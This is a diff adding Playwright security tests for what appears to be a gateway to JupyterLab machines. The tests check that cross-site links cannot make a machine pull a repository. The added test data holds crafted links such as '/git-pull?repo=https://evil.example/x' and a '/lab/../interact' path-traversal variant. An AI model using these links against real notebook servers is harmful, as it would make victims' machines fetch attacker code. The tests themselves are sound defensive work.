@@ -7,7 +7,7 @@ here means the gateway's rules and not a mistake in the attack.
 from collections.abc import Iterator
 
 import pytest
-from playwright.sync_api import Browser, Page
+from playwright.sync_api import Browser, Page, expect
 from pytest_django.live_server_helper import LiveServer
 
 from instances.models import Instance
@@ -141,6 +141,37 @@ def test_a_window_that_was_opened_cannot_be_steered(stage: Stage) -> None:
     assert stage.page.evaluate("window.victim.closed")  # the handle is dead: the window itself is open
     assert not opened.value.is_closed()
     assert opened.value.evaluate("window.opener") is None
+
+
+PULLS = ["/git-pull?repo=https://evil.example/x", "/git-sync?repo=https://evil.example/x", "/lab/../interact?repo=x"]
+
+
+@pytest.mark.parametrize("path", PULLS)
+def test_no_link_elsewhere_makes_another_machine_pull(stage: Stage, machine: FakeMachine, path: str) -> None:
+    with stage.context.expect_page() as opened:
+        stage.page.evaluate("(url) => { window.open(url); }", stage.victim + path)
+    expect(opened.value.get_by_role("heading")).to_have_text("This link opens nothing")
+    assert machine.asked == []
+    stage.own_page.evaluate("(path) => { location.href = path; }", path)
+    stage.own_page.wait_for_url(lambda url: "repo=" in url)
+    assert f"GET {path.replace('/lab/..', '')}" in machine.asked
+
+
+def test_a_page_that_waits_for_a_machine_does_not_pull_once_it_is_there(stage: Stage, machine: FakeMachine) -> None:
+    """It opens its own address again, and then a page of the attacked host itself asks."""
+    machine.stop()
+    waits, pulls = stage.context.new_page(), stage.context.new_page()
+    waits.goto(stage.hostile + "/page")
+    pulls.goto(stage.hostile + "/page")
+    waits.evaluate("(url) => { location.href = url; }", stage.victim + "/lab/tree/x")
+    pulls.evaluate("(url) => { location.href = url; }", stage.victim + PULLS[0])
+    expect(waits.get_by_role("heading")).to_have_text("JupyterLab is starting")
+    expect(pulls.get_by_role("heading")).to_have_text("This link opens nothing")
+    machine.start()
+    expect(waits.get_by_role("heading")).to_have_count(0, timeout=20_000)
+    pulls.reload()
+    expect(pulls.get_by_role("heading")).to_have_text("This link opens nothing")
+    assert not [asked for asked in machine.asked if "evil" in asked]
 
 
 def test_cookies_tossed_to_every_machine_change_nothing(stage: Stage, machine: FakeMachine) -> None:
